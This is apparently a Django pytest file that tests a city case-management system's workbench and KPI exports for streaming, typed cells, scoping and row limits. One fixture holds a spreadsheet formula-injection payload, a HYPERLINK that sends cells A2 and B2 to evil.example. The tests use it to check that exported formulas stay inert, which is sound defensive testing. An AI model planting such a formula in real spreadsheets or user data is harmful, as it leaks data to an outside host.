"""The workbench and KPI exports at any size: streamed, typed cells, formulas that never run, the
page's filters and scope, no query per row, and bounds on what one KPI export may ask for."""

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from django.http import StreamingHttpResponse
from django.utils import timezone
from openpyxl import load_workbook

from cityops.cases import kpi_export
from cityops.cases.kpis import kpi_table
from cityops.cases.models import Case
from cityops.cases.views import workbench
from cityops.core.export import xlsx as xlsx_module
from cityops.core.scoping import SYSTEM_READER
from tests.cases.test_kpis import _scenario
from tests.cases.test_lifecycle import report
from tests.cases.test_rollup import add_inspectors
from tests.cases.test_views import as_user, spread

pytestmark = pytest.mark.django_db
LEAK = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"详情")'
XLSX = "/cases/export/?tab=all&format=xlsx"
CSV = "/cases/export/?tab=all&format=csv"


def _body(resp) -> bytes:
    assert resp.status_code == 200 and isinstance(resp, StreamingHttpResponse)
    return b"".join(resp.streaming_content)


def _local(at: datetime) -> datetime:
    return timezone.localtime(at).replace(tzinfo=None)


@pytest.fixture
def leaked(catalogue):
    """A resident's report whose description is a formula that would send cells elsewhere."""
    users = catalogue
    case = report(users).case
    Case.objects.filter(pk=case.pk).update(description=LEAK, address="+86 某某路")
    return users, Case.objects.get(pk=case.pk)


def test_the_workbench_xlsx_has_real_dates_numbers_and_inert_formulas(client, leaked):
    users, case = leaked
    book = load_workbook(io.BytesIO(_body(as_user(client, users, "officer").get(XLSX))))
    ws = book.active
    header = [c.value for c in ws[1]]
    row = dict(zip(header, ws[2], strict=True))
    assert row["案件编号"].value == case.number
    reported = row["上报时间"]
    assert reported.value == _local(case.reported_at).replace(microsecond=0)
    assert reported.is_date and reported.number_format == "yyyy-mm-dd hh:mm"
    assert row["环节期限"].is_date and row["环节期限"].value == _local(case.step_deadline).replace(
        microsecond=0
    )
    assert (row["上报记录"].value, row["上报记录"].data_type) == (1, "n")
    description = row["问题描述"]
    assert description.value == LEAK and description.data_type == "s" and description.quotePrefix
    assert row["地址"].value == "+86 某某路" and row["地址"].quotePrefix
    assert ws.freeze_panes == "B2"


def test_the_workbench_csv_escapes_formulas_and_writes_local_times(client, leaked):
    users, case = leaked
    text = _body(as_user(client, users, "officer").get(CSV)).decode("utf-8")
    lines = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    row = dict(zip(lines[0], lines[1], strict=True))
    assert row["问题描述"] == "'" + LEAK and row["地址"] == "'+86 某某路"
    assert row["上报时间"] == _local(case.reported_at).strftime("%Y-%m-%d %H:%M")


def test_the_exports_keep_the_page_filters_and_scope(client, catalogue):
    users = catalogue
    v1_case, v4_case = report(users).case, report(users, grid=7, by=None).case
    as_user(client, users, "officer")
    book = load_workbook(io.BytesIO(_body(client.get(XLSX + "&grid=G7"))))
    assert [r[0] for r in book.active.iter_rows(min_row=2, values_only=True)] == [v4_case.number]
    as_user(client, users, "dispatcher_v1")
    for url in (XLSX, CSV):
        body = _body(client.get(url))
        assert (v1_case.number.encode() in body or url == XLSX) and v4_case.number.encode() not in body
    numbers = [
        r[0]
        for r in load_workbook(io.BytesIO(_body(client.get(XLSX)))).active.iter_rows(
            min_row=2, values_only=True
        )
    ]
    assert numbers == [v1_case.number]


def test_the_all_tab_exports_newest_first_as_the_page_lists(client, catalogue):
    users = catalogue
    cases = [r.case for r in spread(users, 3)]
    for i, case in enumerate(cases):
        Case.objects.filter(pk=case.pk).update(reported_at=timezone.now() - timedelta(hours=i))
    text = _body(as_user(client, users, "officer").get(CSV)).decode("utf-8-sig")
    assert [r[0] for r in csv.reader(io.StringIO(text))][1:] == [c.number for c in cases]


def test_reading_the_export_costs_one_query_whatever_its_size(
    client, catalogue, django_assert_max_num_queries
):
    users = catalogue
    spread(users, 30)
    for url in (CSV, XLSX):
        resp = as_user(client, users, "officer").get(url)
        with django_assert_max_num_queries(1):
            body = b"".join(resp.streaming_content)
        assert body


def test_the_first_bytes_leave_after_the_first_rows(client, catalogue, monkeypatch):
    users = catalogue
    spread(users, 30)
    monkeypatch.setattr(xlsx_module, "ROWS_PER_WRITE", 5)
    read = []
    rows = workbench._rows

    def counted(qs):
        for row in rows(qs):
            read.append(row)
            yield row

    monkeypatch.setattr(workbench, "_rows", counted)
    resp = as_user(client, users, "officer").get(XLSX)
    chunks = iter(resp.streaming_content)
    assert next(chunks).startswith(b"PK\x03\x04") and read == []
    rest = b"".join(chunks)
    assert len(read) == 30 and rest


def test_past_a_sheets_row_limit_the_workbench_continues_on_a_new_sheet(client, catalogue, monkeypatch):
    users = catalogue
    numbers = {r.case.number for r in spread(users, 25)}
    monkeypatch.setattr(xlsx_module, "MAX_ROWS", 11)  # a header and ten cases a sheet
    book = load_workbook(io.BytesIO(_body(as_user(client, users, "officer").get(XLSX))))
    assert len(book.sheetnames) == 3 and book.sheetnames[1] == f"{book.sheetnames[0]} (2)"
    assert all(ws.cell(1, 1).value == "案件编号" for ws in book.worksheets)
    got = [r[0] for ws in book.worksheets for r in ws.iter_rows(min_row=2, values_only=True)]
    assert sorted(got) == sorted(numbers)  # every case once: no cap, no note in place of rows


# ---- the KPI workbook -----------------------------------------------------------------------------


@pytest.fixture
def staffed(catalogue):
    return add_inspectors(catalogue)


def _kpi(client, user, query: str):
    client.force_login(user)
    return client.get(f"/api/v1/kpis/export.xlsx?{query}")


def test_the_kpi_workbook_has_percentages_dates_and_numbers(client, staffed):
    _scenario(staffed)
    today = timezone.localdate()
    resp = _kpi(client, staffed["officer"], f"group=village,department&period=day&start={today}&end={today}")
    assert resp["Content-Disposition"] == f'attachment; filename="kpis-day-{today}-{today}.xlsx"'
    ws = load_workbook(io.BytesIO(_body(resp)))["村（社区）×部门"]
    header = [c.value for c in ws[1]]
    row = dict(zip(header, ws[2], strict=True))
    assert row["开始日期"].value == datetime(today.year, today.month, today.day)
    assert row["开始日期"].number_format == "yyyy-mm-dd"
    assert isinstance(row["结案率"].value, float) and row["结案率"].number_format == "0.0%"
    assert (row["上报数"].value, row["上报数"].data_type) == (2, "n")


@pytest.mark.parametrize(
    ("period", "start", "end", "cuts"),
    [
        ("day", date(2026, 1, 1), date(2026, 3, 5), [date(2026, 2, 1), date(2026, 3, 4)]),
        ("week", date(2026, 1, 1), date(2026, 6, 30), [date(2026, 3, 30), date(2026, 6, 29)]),  # on Mondays
        ("month", date(2025, 11, 15), date(2026, 5, 31), [date(2026, 2, 1), date(2026, 5, 1)]),
        ("year", date(2024, 6, 1), date(2026, 2, 1), [date(2025, 1, 1), date(2026, 1, 1)]),
    ],
)
def test_kpi_windows_cut_on_period_boundaries(period, start, end, cuts):
    got = list(kpi_export.windows(period, start, end))
    assert got[0][0] == start and got[-1][1] == end
    assert [lo for lo, _hi in got[1:]] == cuts
    assert all(hi + timedelta(days=1) == lo for (_, hi), (lo, _) in zip(got, got[1:], strict=False))


def test_the_streamed_windows_give_the_rows_of_one_table(client, staffed, monkeypatch):
    _scenario(staffed)
    monkeypatch.setitem(kpi_export.WINDOW, "day", 2)  # many windows over a few days
    today = timezone.localdate()
    start = today - timedelta(days=6)
    resp = _kpi(client, staffed["officer"], f"group=grid,department&period=day&start={start}&end={today}")
    ws = load_workbook(io.BytesIO(_body(resp)))["网格×部门"]
    got = [(r[0], r[3], r[5], r[7]) for r in ws.iter_rows(min_row=2, values_only=True)]
    rows = kpi_table(user=staffed["officer"], group="grid,department", period="day", start=start, end=today)
    assert got and got == [(r.period, r.key, r.key2, r.counts["reported"]) for r in rows]
    all_rows = kpi_table(user=SYSTEM_READER, group="grid,department", period="day", start=start, end=today)
    assert len(all_rows) == len(rows)  # the town officer sees the whole town


@pytest.mark.parametrize(
    ("period", "start", "end", "periods"),
    [
        ("day", date(2026, 1, 1), date(2026, 12, 31), 365),
        ("week", date(2026, 1, 4), date(2026, 1, 5), 2),  # a Sunday and the Monday after
        ("month", date(2025, 12, 31), date(2026, 2, 1), 3),
        ("year", date(2025, 12, 31), date(2026, 1, 1), 2),
    ],
)
def test_the_row_ceiling_is_periods_times_members(town, period, start, end, periods):
    from cityops.geo.models import Grid
    from cityops.org.models import Department

    members = Grid.objects.count() * Department.objects.count()
    kw = {"period": period, "start": start, "end": end}
    assert kpi_export.row_ceiling(group="grid,department", **kw) == periods * members


def test_a_small_kpi_export_is_not_counted_in_the_rollups(staffed, monkeypatch):
    def counted(**kw):
        raise AssertionError("counted")

    monkeypatch.setattr(kpi_export, "kpi_row_count", counted)
    today = timezone.localdate()
    kw = {"user": staffed["officer"], "period": "month", "start": today, "end": today}
    kpi_export.check_bounds(groups=["village,department", "village", "department"], **kw)
    monkeypatch.setattr(kpi_export, "MAX_ROWS", 1)
    with pytest.raises(AssertionError, match="counted"):
        kpi_export.check_bounds(groups=["village,department"], **kw)


def test_a_kpi_export_of_too_many_groupings_is_refused(client, staffed):
    groups = "&".join(f"group={g}" for g in ("village", "department", "grid", "channel", "category"))
    resp = _kpi(client, staffed["officer"], f"{groups}&period=month")
    assert resp.status_code == 400 and resp["Content-Type"] == "application/problem+json"
    problem = resp.json()
    assert "at most 4 groupings (group), not 5" in problem["detail"]
    assert problem["errors"] == [{"field": "group", "message": "at most 4"}]


def test_a_kpi_export_of_too_many_rows_is_refused_before_anything_is_sent(client, staffed, monkeypatch):
    _scenario(staffed)
    monkeypatch.setattr(kpi_export, "MAX_ROWS", 2)
    today = timezone.localdate()
    resp = _kpi(client, staffed["officer"], f"group=village,department&period=day&start={today}&end={today}")
    assert resp.status_code == 400 and not isinstance(resp, StreamingHttpResponse)
    problem = resp.json()
    assert problem["detail"].startswith("this export would hold 3 rows, more than the limit of 2")
    assert problem["errors"] == [{"field": "period", "message": "3 rows; at most 2"}]
    ok = _kpi(client, staffed["officer"], f"group=village&period=day&start={today}&end={today}")
    assert ok.status_code == 200  # two villages: within the bound
